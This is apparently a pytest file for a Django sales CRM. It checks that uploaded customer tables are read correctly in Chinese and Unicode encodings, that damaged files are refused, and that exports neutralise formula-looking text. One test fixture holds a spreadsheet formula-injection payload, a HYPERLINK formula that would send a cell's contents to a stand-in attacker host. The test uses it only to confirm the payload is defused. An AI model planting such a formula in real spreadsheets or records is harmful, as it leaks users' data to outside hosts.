"""Uploaded tables in the encodings and formats people really send, damaged files refused
with a field error, and exports that never turn a name into a formula."""

import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from openpyxl import Workbook, load_workbook

from salesops.core.exceptions import ValidationFailed
from salesops.core.export import text_only, xlsx_bytes
from salesops.core.tabular import read_table
from salesops.crm import imports
from salesops.crm.models import Customer
from salesops.crm.tests.factories import make_customer

CUSTOMERS = "name,phone,city\n杭州西湖食品有限公司,13700001111,杭州\n上海浦东商贸,13700002222,上海\n"


@pytest.mark.parametrize(
    "encoded",
    [
        CUSTOMERS.encode("gbk"),  # what Chinese Excel and WPS save by default
        CUSTOMERS.encode("gb18030"),
        CUSTOMERS.encode("utf-8"),
        b"\xef\xbb\xbf" + CUSTOMERS.encode("utf-8"),  # UTF-8 with a BOM (Excel's "CSV UTF-8")
        CUSTOMERS.encode("utf-16"),  # Excel's "Unicode text"
        CUSTOMERS.replace(",", ";").encode("utf-8"),
        CUSTOMERS.replace(",", "\t").encode("gbk"),
    ],
    ids=["gbk", "gb18030", "utf8", "utf8-bom", "utf16", "semicolons", "tabs-gbk"],
)
def test_csv_files_are_read_in_the_encoding_they_were_saved_in(encoded):
    rows = read_table("customers.csv", encoded)
    assert rows == [
        {"name": "杭州西湖食品有限公司", "phone": "13700001111", "city": "杭州"},
        {"name": "上海浦东商贸", "phone": "13700002222", "city": "上海"},
    ]


def test_a_gbk_customer_file_imports_the_names_as_written(org, client):
    client.force_login(org["rep1"])
    upload = SimpleUploadedFile("customers.csv", CUSTOMERS.encode("gbk"), content_type="text/csv")
    response = client.post("/customers/import/", {"file": upload})
    assert response.status_code == 302
    record = imports.CustomerImport.objects.get()
    assert [row["data"]["name"] for row in record.rows] == ["杭州西湖食品有限公司", "上海浦东商贸"]


@pytest.mark.parametrize(
    "filename, content",
    [
        ("customers.xlsx", b"PK\x03\x04 this is not a workbook"),
        ("customers.xls", b"\xd0\xcf\x11\xe0 not a workbook either"),
        ("customers.csv", b""),
        ("customers.pdf", b"%PDF-1.4"),
    ],
)
def test_damaged_or_unknown_files_are_refused_on_the_file_field(filename, content):
    with pytest.raises(ValidationFailed) as refused:
        read_table(filename, content)
    assert list(refused.value.fields) == ["file"]


def test_a_damaged_workbook_on_the_import_page_is_a_message_not_a_server_error(org, client):
    client.force_login(org["rep1"])
    before = Customer.objects.count()
    upload = SimpleUploadedFile("customers.xlsx", b"PK\x03\x04 broken", content_type="application/octet-stream")
    response = client.post("/customers/import/", {"file": upload})
    assert response.status_code == 200
    assert "not a readable Excel file" in response.content.decode()
    assert Customer.objects.count() == before


def test_xlsx_cells_are_read_as_text():
    workbook = Workbook()
    workbook.active.append(["SKU", "Counted"])
    workbook.active.append(["FL-001", 12.0])
    buffer = io.BytesIO()
    workbook.save(buffer)
    assert read_table("count.xlsx", buffer.getvalue()) == [{"sku": "FL-001", "counted": "12"}]


def test_exports_keep_formula_looking_text_as_text(org, client):
    attack = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
    make_customer(org["rep1"], name=attack)
    client.force_login(org["rep1"])
    response = client.get("/customers/?export=xlsx")
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value == attack]
    assert cells and all(cell.data_type == "s" for cell in cells)

    written = load_workbook(io.BytesIO(xlsx_bytes(["name"], [["=1+1"], ["@SUM(A1)"]]))).active
    assert [(c.value, c.data_type) for c in written["A"]] == [("name", "s"), ("=1+1", "s"), ("@SUM(A1)", "s")]

    built = Workbook()
    built.active.append(["=2+2", 5])
    text_only(built)
    assert [c.data_type for c in built.active[1]] == ["s", "n"]


def test_csv_exports_defuse_formula_looking_text_but_keep_numbers():
    from salesops.core.export import csv_safe

    assert [csv_safe(v) for v in ["=1+1", "@SUM(A1)", "+86 138", "-x", "-5", "3.5", "面粉", 7]] == [
        "'=1+1",
        "'@SUM(A1)",
        "'+86 138",
        "'-x",
        "-5",
        "3.5",
        "面粉",
        7,
    ]
